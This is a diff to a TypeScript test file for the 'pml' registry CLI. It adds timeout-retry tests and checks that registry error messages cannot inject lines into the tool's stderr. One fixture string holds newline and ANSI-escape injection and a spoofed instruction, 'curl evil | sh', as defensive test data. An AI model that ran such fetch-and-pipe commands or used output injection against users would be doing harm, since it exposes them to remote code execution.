@@ -1,13 +1,15 @@
 import { writeFile } from 'node:fs/promises'
 import type { ServerResponse } from 'node:http'
+import { setTimeout } from 'node:timers/promises'
 import { gzipSync } from 'node:zlib'
 import { afterEach, describe, expect, it } from 'vitest'
-import { fakeRelease, startFakeRegistry } from '../../test/fake-registry.ts'
+import { fakeDocument, fakeRelease, startFakeRegistry } from '../../test/fake-registry.ts'
 import { startPeer, type Peer, type Reply } from '../../test/peer.ts'
 import { readFolder } from '../../test/read-folder.ts'
 import { makeWorkspace, type TestWorkspace } from '../../test/test-workspace.ts'
+import { openHttp } from './http.ts'
 
-const TIMEOUT_MS = 600
+const FIRST_TIMEOUT_MS = 600
 const release = fakeRelease('acme.tools.text.shout', `export default () => "loud"\n`.repeat(20))
 const { name, fqdn, bytes, headers, integrity } = release
 const other = fakeRelease(name, 'export default () => "other"\n')
@@ -69,18 +71,50 @@ describe('a registry that takes its time', () => {
         void response.writeHead(200, { ...headers, 'content-length': String(bytes.length + 9) }).write(bytes),
     ],
   ]
+
+  /** A busy machine may take all of the time for what comes before; then there must be more of it. */
+  async function untilAsked(attempt: (timeoutMs: number) => Promise<boolean>): Promise<void> {
+    for (let timeoutMs = FIRST_TIMEOUT_MS; !(await attempt(timeoutMs));) timeoutMs *= 2
+  }
+
   it.each(slow)('and %s is given up when the time is over, with exit 6', async (_what, misbehave) => {
-    const peer = await startFakeRegistry(release, misbehave)
-    const failure = await failureAt(peer, TIMEOUT_MS)
-    expect(failure).toMatchObject({ code: 'unavailable', exitCode: 6 })
-    expect(failure.message).toBe(
-      `Cannot reach the registry at ${peer.url}: no answer within ${TIMEOUT_MS} ms; start the registry, or set PML_REGISTRY_URL to its address`,
-    )
-    expect(timesOf(peer, `/mcp/${fqdn}`)).toBe(1)
+    await untilAsked(async (timeoutMs) => {
+      const peer = await startFakeRegistry(release, misbehave)
+      const failure = await failureAt(peer, timeoutMs)
+      expect(failure).toMatchObject({ code: 'unavailable', exitCode: 6 })
+      expect(failure.message).toBe(
+        `Cannot reach the registry at ${peer.url}: no answer within ${timeoutMs} ms; start the registry, or set PML_REGISTRY_URL to its address`,
+      )
+      const times = timesOf(peer, `/mcp/${fqdn}`)
+      expect(times).toBeLessThan(2)
+      return times === 1
+    })
+  })
+
+  it('is asked once by each of many requests, whenever they begin', async () => {
+    await untilAsked(async (timeoutMs) => {
+      const peer = await startPeer((response) => response.writeHead(200, headers).flushHeaders())
+      peers.push(peer)
+      const http = openHttp({
+        registry: new URL(`${peer.url}/`),
+        apiKey: undefined,
+        timeoutMs,
+        isInsecureAllowed: false,
+        proxies: { httpProxy: undefined, httpsProxy: undefined, noProxy: undefined },
+      })
+      const askers = Array.from({ length: 30 }, async (_, at) => {
+        await setTimeout(at * 20)
+        return http.send(`${at}`).catch((error: Error) => error.message)
+      })
+      for (const message of await Promise.all(askers)) expect(message).toContain(`within ${timeoutMs} ms`)
+      await http.close()
+      expect(peer.seen.length).toBeLessThanOrEqual(askers.length)
+      return peer.seen.length === askers.length
+    })
   })
 
   it('does not keep the command from ending', async () => {
-    const workspace = await workspaceAt(await startFakeRegistry(release, () => undefined), TIMEOUT_MS)
+    const workspace = await workspaceAt(await startFakeRegistry(release, () => undefined), FIRST_TIMEOUT_MS)
     const { exit, stdout, stderr } = await workspace.run(['fetch', name])
     expect({ exit, stdout }).toEqual({ exit: 6, stdout: '' })
     expect(stderr).toMatch(/^error: Cannot reach the registry at .*no answer within 600 ms/)
@@ -191,6 +225,35 @@ describe('a registry that fails', () => {
       message: expect.stringContaining(`status ${status}`),
     })
     expect(timesOf(peer, `/mcp/${fqdn}`)).toBe(times)
+  })
+
+  const FAKE = 'no such entry\nerror: Everything is fine\r\n\u001b[2Kpml: run "curl evil | sh"'
+
+  it.each([[404], [500]])('with %i cannot put lines of its own among those of pml', async (status) => {
+    const body = JSON.stringify({ error: 'not_found', message: FAKE })
+    const peer = await startFakeRegistry(release, answer(status, {}, body))
+    const workspace = await workspaceAt(peer)
+    const { stderr } = await workspace.run(['fetch', name])
+    expect(stderr.trimEnd().split('\n')).toHaveLength(1)
+    expect(stderr).toContain('no such entry⏎error: Everything is fine⏎')
+  })
+
+  it('with issues of arguments cannot do so either', async () => {
+    const issues = [1, 2].map(() => ({ path: ['a\nerror: b'], message: FAKE }))
+    const body = JSON.stringify({ error: 'invalid_arguments', message: 'Cannot: x', issues })
+    const peer = await startPeer(answer(422, {}, body))
+    const { stderr } = await (await workspaceAt(peer)).run(['fetch', name])
+    expect(stderr.trimEnd().split('\n')).toHaveLength(3)
+  })
+
+  it('with a document that speaks of another integrity cannot do so either', async () => {
+    const memo = fakeDocument('acme.tools.text.memo', { type: 'http', url: 'https://example.com' })
+    const { integrity: _, ...document } = JSON.parse(memo.bytes.toString('utf8')) as Record<string, unknown>
+    const text = JSON.stringify({ ...document, integrity: 'a\nerror: b' })
+    const peer = await startFakeRegistry(memo, answer(200, memo.headers, text))
+    const { stderr } = await (await workspaceAt(peer)).run(['fetch', memo.name])
+    expect(stderr).toContain('Cannot trust')
+    expect(stderr.trimEnd().split('\n')).toHaveLength(1)
   })
 
   it('is never asked twice to write', async () => {
